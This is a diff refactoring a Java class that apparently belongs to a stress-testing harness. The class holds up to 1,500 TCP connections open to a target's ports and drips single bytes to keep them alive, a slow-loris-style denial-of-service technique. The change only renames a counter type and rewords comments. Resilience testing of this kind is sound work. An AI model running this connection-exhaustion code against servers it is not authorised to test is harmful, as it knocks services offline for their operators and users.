@@ -7,27 +7,27 @@ import java.util.ArrayDeque;
 import java.util.Deque;
 import java.util.random.RandomGenerator;
 
-/** Holds many connections to the victim's ports, silent or with a byte now and then. */
+/** Holds many connections to the victim's ports, idle or with a byte now and then. */
 final class HeldConnections implements Attacker {
     private static final int TIME_TO_CONNECT_MILLIS = 2_000;
     private static final int MOST_HELD = 1_500;
 
     @Override
-    public void attack(Target target, RandomGenerator random, Tally tally) {
+    public void attack(Target target, RandomGenerator random, InputCounter inputCounter) {
         Deque<Socket> held = new ArrayDeque<>();
-        while (!tally.isOver()) {
+        while (!inputCounter.isOver()) {
             int port = target.tcpPorts().get(random.nextInt(target.tcpPorts().size()));
-            tally.sent();
+            inputCounter.sent();
             try {
                 held.add(open(new InetSocketAddress(target.host(), port), random));
-                tally.connected();
+                inputCounter.connected();
             } catch (IOException _) {
-                tally.refused();
+                inputCounter.refused();
             }
             if (held.size() > MOST_HELD) {
                 close(held.poll());
             } else if (!held.isEmpty() && random.nextInt(4) == 0) {
-                drip(held, random, tally);
+                drip(held, random, inputCounter);
             }
         }
         held.forEach(HeldConnections::close);
@@ -39,7 +39,7 @@ final class HeldConnections implements Attacker {
         try {
             socket.connect(address, TIME_TO_CONNECT_MILLIS);
             if (random.nextBoolean()) {
-                socket.getOutputStream().write('G'); // every greeting here begins so
+                socket.getOutputStream().write('G'); // the first bytes of every greeting
             }
             return socket;
         } catch (IOException e) {
@@ -48,14 +48,15 @@ final class HeldConnections implements Attacker {
         }
     }
 
-    /** One of those that are held says one byte more. */
-    private static void drip(Deque<Socket> held, RandomGenerator random, Tally tally) {
+    /** Send one more byte on a held connection. */
+    private static void drip(
+            Deque<Socket> held, RandomGenerator random, InputCounter inputCounter) {
         Socket socket = held.poll();
         try {
             socket.getOutputStream().write(random.nextInt());
             held.add(socket);
         } catch (IOException _) {
-            tally.refused();
+            inputCounter.refused();
             close(socket);
         }
     }
@@ -64,7 +65,7 @@ final class HeldConnections implements Attacker {
         try {
             socket.close();
         } catch (IOException _) {
-            // it was closed by the victim
+            // the victim closed it
         }
     }
 }
